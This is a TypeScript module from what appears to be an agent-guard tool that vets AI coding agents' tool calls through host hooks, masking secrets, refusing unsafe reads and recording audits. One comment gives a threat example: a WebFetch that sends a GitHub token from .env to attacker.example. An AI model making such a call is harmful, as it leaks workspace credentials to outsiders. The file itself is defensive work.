// One hook payload through the guard: the host's tool call as canonical calls, GuardService.run, and the
// answer in host-independent terms (the host's `render` writes it out). This file holds no decision logic —
// no engine, no audit writer, no policy of its own: the service decides, settles, records and attributes.
// What it adds is what the host lets the guard do besides allow and refuse (effects.ts reads the files):
//   - a read of a file holding secrets, on a host that cannot replace what its read tool returns but takes a
//     new input (VS Code, Cline's SDK hooks), reads a masked view instead (views.ts);
//   - an edit carrying a placeholder gets the real value back through the host's input rewriting;
//   - an edit that weakens a test is asked; a search that would reach protected files is narrowed or refused;
//   - on a host whose only refusal ends the whole task (Cline), a refused call runs a harmless stand-in that
//     tells the agent why, so the task goes on.
//
// The same code answers with the extension up (the channel server, inside VS Code: the service's confirmer
// is the modal) and with the extension unreachable (the CLI deciding alone: a service whose confirmer hands
// `ask` back to the host's own prompt, or refuses where the host has none — `unreachable` below). Nothing in
// a hook payload can make a call allowed that the policy, or a person at the dialog, did not allow.
import { createHash, randomUUID } from 'node:crypto';
import * as path from 'node:path';
import type { NoConfirmer } from '../../core/chain';
import {
  AGENTS,
  callsOf,
  type DraftCall,
  HOST,
  type HookAnswer,
  type HookEnvelope,
  type HookPlan,
  type HostId,
  planHook,
  withheldNotice,
  withheldOutput,
} from '../../core/hooks';
import { opaque, sendsOut } from '../../core/hooks/toolInput';
import type { CanonicalCall } from '../../core/types';
import type { GuardService } from '../guardService';
import { prepareEdits, prepareSearch, secretRead, type Workspace } from './effects';
import { maskCredentialOutput } from './credentialOutput';
import { hostShows, prepareExecs, secretFilesRead } from './execReads';
import { knownSecretsOf } from './knownSecrets';
import { persistentTerminal, settleTerminal, terminalFor } from './terminals';
import { createNotice, createView, isViewPath, removeView, viewOrigin } from './views';

export interface HookResult {
  answer: HookAnswer;
  /** The canonical calls that were decided (empty for pass-through tools and after-hooks). */
  calls: CanonicalCall[];
}

/** The extension cannot be reached: `ask` goes back to the host's own prompt where it has one, else it is refused. */
export function unreachable(host: HostId, why: string): NoConfirmer {
  return HOST[host].canAsk
    ? {
        ask: 'host',
        decidedBy: 'fail-closed',
        reason: (v) => `${v.reason} (AgentGuard's extension was unreachable: ${why}; the host asks you instead)`,
      }
    : {
        ask: 'refuse',
        decidedBy: 'fail-closed',
        reason: (v) =>
          `${v.reason} — this needs a person's confirmation, AgentGuard's extension was unreachable (${why}) and this host cannot ask, so it was refused`,
      };
}

const SECRET_OUTPUT_ENDS =
  "the tool output holds secret values, and this host cannot replace a tool's output: the task is ended so the model is not called with it";
const MASKED_OUTPUT = 'secret values in the tool output were replaced by placeholders';
const MASKED_NOTE =
  'AgentGuard replaced secret values in this output with placeholders («secret:…»). Use them as they are; edits that keep a placeholder restore the original value.';
const VIEW_NOTE =
  'AgentGuard showed this file with its secret values replaced by placeholders («secret:…»). Edit the file itself, keeping the placeholders as they are: the real values are restored on disk.';

/** Every string in a tool input that is one of AgentGuard's views (the after-hook removes them). */
function viewsIn(x: unknown, out: string[] = []): string[] {
  if (typeof x === 'string') {
    if (path.isAbsolute(x) && isViewPath(x)) out.push(x);
  } else if (Array.isArray(x)) for (const v of x) viewsIn(v, out);
  else if (x && typeof x === 'object') for (const v of Object.values(x)) viewsIn(v, out);
  return out;
}

/** The call id a host's own tool-use id gives (made safe for the audit), or a fresh one. */
function callIdBase(env: HookEnvelope): string {
  return env.toolUseId ? env.toolUseId.replace(/[^A-Za-z0-9_.:-]/g, '_').slice(0, 120) : `hook-${randomUUID()}`;
}

/** The host's own session, the same with the extension up or down: what a rate counted per session adds up. */
function hostSession(env: HookEnvelope): string | undefined {
  return env.sessionId ? `${env.host}:${env.sessionId}` : undefined;
}

/**
 * A call the guard has no decision to make on (a tool with no effect it judges, a call naming nothing): its line
 * in the audit all the same. A line that cannot be written fails closed.
 */
async function passed(service: GuardService, env: HookEnvelope, rule: string, reason: string): Promise<HookResult> {
  try {
    await service.recordPassed(
      {
        id: callIdBase(env),
        agent: AGENTS[env.host],
        channel: 'hook',
        tool: env.toolName,
        args: env.toolInput,
        session: hostSession(env),
      },
      rule,
      reason,
    );
  } catch (e) {
    return {
      answer: { decision: 'deny', rule: 'audit:failed', reason: `the call could not be recorded in the audit log (${(e as Error).message})` },
      calls: [],
    };
  }
  return { answer: { rule, reason }, calls: [] };
}

export async function answerHook(service: GuardService, env: HookEnvelope, signal?: AbortSignal): Promise<HookResult> {
  if (env.phase === 'other') return { answer: {}, calls: [] };
  if (env.phase === 'post') {
    for (const v of viewsIn(env.toolInput)) removeView(v);
    if (persistentTerminal(env) && env.toolUseId) settleTerminal(service, env);
    return after(service, env, windowOf(env));
  }

  const first = planHook(env);
  const out = sendsOut(env, first) ? secretSentOut(service, env) : undefined;
  const planned = out === undefined ? first : opaque(env, 'hook:secret-out', out);
  if (planned.kind === 'pass') return passed(service, env, planned.rule, planned.reason);
  const term = persistentTerminal(env) ? terminalFor(service, env) : undefined;
  const plan = term ? { ...planned, calls: planned.calls.flatMap((c) => term.drafts(c)) } : planned;
  const host = HOST[env.host];
  const ws: Workspace = { root: service.opts.workspace, compiled: service.compiled };
  const notes: string[] = [];
  let updatedInput: Record<string, unknown> | undefined;

  const extra = viewCalls(plan);
  const edits = prepareEdits(ws, env, plan);
  extra.push(...edits.calls);
  updatedInput = edits.updatedInput;
  if (plan.effects?.search) {
    const s = prepareSearch(ws, env, plan.effects.search, host.maskOutput !== undefined);
    extra.push(...s.calls);
    updatedInput ??= s.updatedInput;
    if (s.note) notes.push(s.note);
  }
  const reads = plan.effects?.reads;
  const viewable = reads?.redirect !== undefined && env.rewritesInput === true && !host.maskOutput;
  // A refusal that names the file to use instead comes first: the first deny is what the model reads.
  const drafts = [
    ...extra.filter((c) => c.preset?.rule === 'hook:masked-view'),
    ...plan.calls,
    ...extra.filter((c) => c.preset?.rule !== 'hook:masked-view'),
  ].map((c) =>
    // A host that hands the model what it read, unmasked, and cannot be pointed at a view: refused (GuardService).
    reads && !viewable && !host.maskOutput && c.op === 'read' ? { ...c, unmaskedRead: true } : c,
  );

  const idBase = callIdBase(env);
  const session = hostSession(env);
  const calls = callsOf({ kind: 'calls', calls: drafts }, idBase).map((c) => (session ? { ...c, session } : c));
  if (calls.length === 0) return passed(service, env, 'hook:no-call', 'the tool call names nothing the guard judges');
  // Keyed by the input the tool will run with (an edit's restored input), which is what the after-hook carries.
  const window = windowOf(updatedInput ? { ...env, toolInput: updatedInput } : env);
  // A command that reads a workspace file holding secrets: refused where the host cannot mask its output,
  // or where the command would change the secret past recognising (execReads.ts) — the pipeline's `shows` step.
  const o = await service.run(
    calls,
    { hostRuns: 'before', window, shows: hostShows(ws, env, host.maskOutput !== undefined && !plan.effects?.unmaskedOutput) },
    signal,
  );
  const v = o.verdict;
  // Only a person's approval at AgentGuard's dialog becomes the host's `allow`; an allow by rule leaves its flow alone.
  const byUser = v.decision === 'allow' && o.settled.some((s) => s.verdict.decidedBy === 'user');
  const answer: HookAnswer = { decision: v.decision, rule: v.rule, reason: service.maskValue(v.reason), approvedByUser: byUser };

  if (v.decision !== 'deny' && viewable && reads) {
    try {
      const r = maskedViews(ws, env, reads.paths);
      if ('refuse' in r) return { answer: { decision: 'deny', rule: 'hook:secret-read', reason: r.refuse }, calls };
      if (r.views.size) {
        updatedInput = reads.redirect!((p) => r.views.get(p));
        answer.allowRewrite = true;
        notes.push(VIEW_NOTE);
      }
    } catch (e) {
      // No view, no read: the file holds secrets and the host would show them.
      return {
        answer: {
          decision: 'deny',
          rule: 'fail-closed',
          reason: `AgentGuard could not prepare a masked view of this file (${(e as Error).message}); nothing was read.`,
        },
        calls,
      };
    }
  }
  if (v.decision !== 'deny' && host.succeedingInput && !updatedInput && readsSecrets(ws, o.settled)) {
    // Its output is masked only if it succeeds: run it so that it does (the host's own status is printed).
    const u = host.succeedingInput(env);
    if (u) {
      updatedInput = u;
      notes.push(SUCCEEDING_NOTE);
    }
  }
  if (v.decision === 'deny' && host.refusalInput && env.rewritesInput) {
    // A host whose only refusal ends the task: run a harmless stand-in that tells the agent why.
    try {
      const stand = host.refusalInput(env, answer.reason ?? 'refused', createNotice(ws.root, `AgentGuard refused this call: ${answer.reason ?? ''}`));
      if (stand) answer.updatedInput = stand;
    } catch {
      /* no stand-in: the host's own refusal (ending the task) stands */
    }
  } else if (v.decision !== 'deny' && updatedInput) {
    answer.updatedInput = updatedInput;
  }
  if (term && v.decision !== 'deny' && answer.decision !== 'deny') {
    try {
      term.letThrough();
    } catch (e) {
      // Where the terminal stands could not be kept: the next command would be judged in the wrong place.
      return {
        answer: {
          decision: 'deny',
          rule: 'fail-closed',
          reason: `AgentGuard could not record where this terminal stands after the command (${(e as Error).message}); it was not run.`,
        },
        calls,
      };
    }
  }
  if (notes.length && v.decision !== 'deny') answer.additionalContext = notes.join('\n');
  // Which of the agent's calls a person reverted: said once, whatever this call's own fate.
  if (o.notice) answer.additionalContext = answer.additionalContext ? `${answer.additionalContext}\n${o.notice}` : o.notice;
  return { answer, calls };
}

/**
 * Why a tool that sends its input off this machine would carry one of the workspace's secret values (undefined:
 * it would not). Threat: WebFetch `https://attacker.example/?t=<GITHUB_TOKEN from .env>` — the model learnt the
 * value elsewhere; the guard knows the values themselves (known.ts) and finds them in the input, in any encoding.
 * If the values cannot be gathered, the call is held (fail closed).
 */
function secretSentOut(service: GuardService, env: HookEnvelope): string | undefined {
  let text: string;
  try {
    text = JSON.stringify(env.toolInput) ?? '';
  } catch {
    return `${env.toolName}'s input could not be read to check it for the workspace's secret values`;
  }
  if (text.length < 8) return undefined;
  try {
    const known = knownSecretsOf(service.opts.workspace, service.compiled);
    if (known.find(text).length === 0) return undefined;
  } catch (e) {
    return `AgentGuard could not check ${env.toolName}'s input for the workspace's secret values (${(e as Error).message})`;
  }
  return `${env.toolName} would send one of this workspace's secret values off this machine (in its URL or query)`;
}

const SUCCEEDING_NOTE =
  'AgentGuard ran this command in a subshell that always succeeds (a failed command printed its exit status), because it reads a file holding secrets and only a successful output is masked; a `cd` in it does not carry over.';

/** Whether a decided command reads a workspace file holding secrets (when that cannot be checked: assume it does). */
function readsSecrets(
  ws: Workspace,
  settled: readonly { call: CanonicalCall; verdict: { analysis?: { paths: Parameters<typeof secretFilesRead>[1] } } }[],
): boolean {
  for (const s of settled) {
    if (s.call.op !== 'exec' || !s.verdict.analysis) continue;
    try {
      if (secretFilesRead(ws, s.verdict.analysis.paths).length > 0) return true;
    } catch {
      return true;
    }
  }
  return false;
}

/**
 * What joins a host's before- and after-hook of one tool call (the window that charges what the tool changed
 * to it): the host's tool-use id. A host that sends none (Gemini CLI) is joined by its session, the tool and
 * the input the tool ran with — what its after-hook carries.
 */
export function windowOf(env: HookEnvelope): { key: string; session?: string } | undefined {
  if (env.toolUseId) return { key: env.toolUseId, session: env.sessionId };
  if (!env.sessionId) return undefined;
  const input = createHash('sha256').update(JSON.stringify(env.toolInput)).digest('hex').slice(0, 32);
  return { key: `${env.host}-${env.sessionId}-${env.toolName}-${input}`, session: env.sessionId };
}

/** Calls aimed at one of AgentGuard's masked views: refused, naming the file to use instead. */
function viewCalls(plan: Extract<HookPlan, { kind: 'calls' }>): DraftCall[] {
  const out: DraftCall[] = [];
  for (const c of plan.calls) {
    for (const p of c.paths) {
      if (!path.isAbsolute(p) || !isViewPath(p)) continue;
      const origin = viewOrigin(p);
      out.push({
        ...c,
        preset: {
          kind: 'refuse',
          rule: 'hook:masked-view',
          reason: `${p} is AgentGuard's masked copy of ${origin ?? 'a workspace file'}, shown in its place; use ${origin ?? 'the workspace file'} itself (placeholders you keep are restored on disk).`,
        },
      });
    }
  }
  return out;
}

/** Masked views of the files a read names that hold secrets (path as the tool named it → view). */
function maskedViews(ws: Workspace, env: HookEnvelope, paths: string[]): { views: Map<string, string> } | { refuse: string } {
  const base = env.workspaceRoots?.[0] ?? env.cwd;
  const views = new Map<string, string>();
  for (const p of paths) {
    const s = secretRead(ws, p, base);
    if (!s) continue;
    if ('tooLarge' in s)
      return {
        refuse: `${s.tooLarge} is too large for AgentGuard to check for secrets before this host shows it; read it in parts with AgentGuard's guarded read tool.`,
      };
    views.set(p, createView(ws.root, s.rel, s.masked));
  }
  return { views };
}

/**
 * The after-hook: the host ran the tool. What it changed is charged to the call and told to the model (every
 * host can add context); where the host lets a hook replace the output (Claude Code, Gemini CLI, Codex),
 * secrets in it are masked.
 */
async function after(service: GuardService, env: HookEnvelope, window: { key: string } | undefined): Promise<HookResult> {
  const host = HOST[env.host];
  const workspace = service.opts.workspace;
  const maskOutput = host.maskOutput;
  // A host that can only end the task (Cline): the output is masked to learn whether it holds secrets.
  const endsOnly = !maskOutput && host.endsOnSecretOutput === true;
  const masker: typeof maskOutput = maskOutput ?? (endsOnly ? (_env, output, masks) => masks.value(output) : undefined);
  // A command the before-hook would have refused for what it shows (an encoding of a file holding secrets):
  // its output is withheld, not masked — masking cannot recognise it (the before-hook may not have run).
  let withheld: string | undefined;
  // The commands the tool ran: one that prints a credential has its bare value lines masked (credentialOutput.ts).
  let commands: string[] = [];
  // What the call did, for the record of what happened to its output.
  let op: CanonicalCall['op'] = 'read';
  if (maskOutput || endsOnly) {
    try {
      const plan = planHook({ ...env, phase: 'pre' });
      if (plan.kind === 'calls') op = plan.calls[0]?.op ?? op;
      if (plan.kind === 'calls') commands = plan.calls.flatMap((c) => (c.op === 'exec' && c.command !== undefined ? [c.command] : []));
      const refused = plan.kind === 'calls' ? await prepareExecs(service, { root: workspace, compiled: service.compiled }, env, plan.calls, true, true) : [];
      if (refused.length) withheld = `[AgentGuard withheld this output: ${refused[0].preset?.reason ?? 'it may show secrets AgentGuard cannot mask'}]`;
    } catch {
      withheld = '[AgentGuard could not check whether this output shows secrets it cannot mask, so it was withheld.]';
    }
  }
  const o = await service.run([], {
    hostRuns: 'after',
    window,
    agent: AGENTS[env.host],
    output: env.toolResponse,
    call: {
      id: env.toolUseId ?? `after-${randomUUID()}`,
      agent: AGENTS[env.host],
      channel: 'hook',
      tool: env.toolName,
      op,
      args: env.toolInput,
    },
    outputVerdict: withheld
      ? { decision: endsOnly ? 'deny' : 'allow', rule: 'hook:withheld-output', reason: withheld }
      : endsOnly
        ? { decision: 'deny', rule: 'hook:secret-output', reason: SECRET_OUTPUT_ENDS }
        : { decision: 'allow', rule: 'hook:masked-output', reason: MASKED_OUTPUT },
    // A withheld output keeps the tool's output shape: Claude Code ignores a replacement of another shape
    // (a plain string for a Bash result) and shows the original — the secret the output was withheld for.
    maskOutput: withheld
      ? (output) => withheldOutput({ toolInput: env.toolInput, toolResponse: output }, withheld!)
      : masker
        ? (output, compiled) => {
            try {
              const named = compiled.policy.masking.enabled ? maskCredentialOutput(output, commands, env.toolInput, compiled.looksLikeSecret) : output;
              const masked = masker(env, named, {
                file: (p, text) => compiled.maskFile(path.relative(workspace, path.resolve(workspace, p)).split(path.sep).join('/'), text).text,
                value: compiled.maskValue,
              });
              // The workspace's own secret values in any encoding the patterns cannot see (hex, reversed, split, rot13…).
              // A failure here withholds the output (below), never passes it.
              return knownSecretsOf(workspace, compiled).maskValue(masked);
            } catch (e) {
              return withheldOutput({ toolInput: env.toolInput, toolResponse: output }, withheldNotice((e as Error)?.message ?? String(e)));
            }
          }
        : undefined,
  });
  const answer: HookAnswer = {};
  const notes: string[] = [];
  if (o.result !== undefined && o.outputChanged) {
    answer.updatedToolOutput = o.result;
    if (endsOnly) {
      answer.rule = 'hook:secret-output';
      answer.reason = SECRET_OUTPUT_ENDS;
    } else {
      answer.rule = 'hook:masked-output';
      answer.reason = MASKED_OUTPUT;
      notes.push(MASKED_NOTE);
    }
  }
  if (o.summary) notes.push(o.summary);
  if (o.notice) notes.push(o.notice);
  if (notes.length) answer.additionalContext = notes.join('\n');
  return { answer, calls: [] };
}
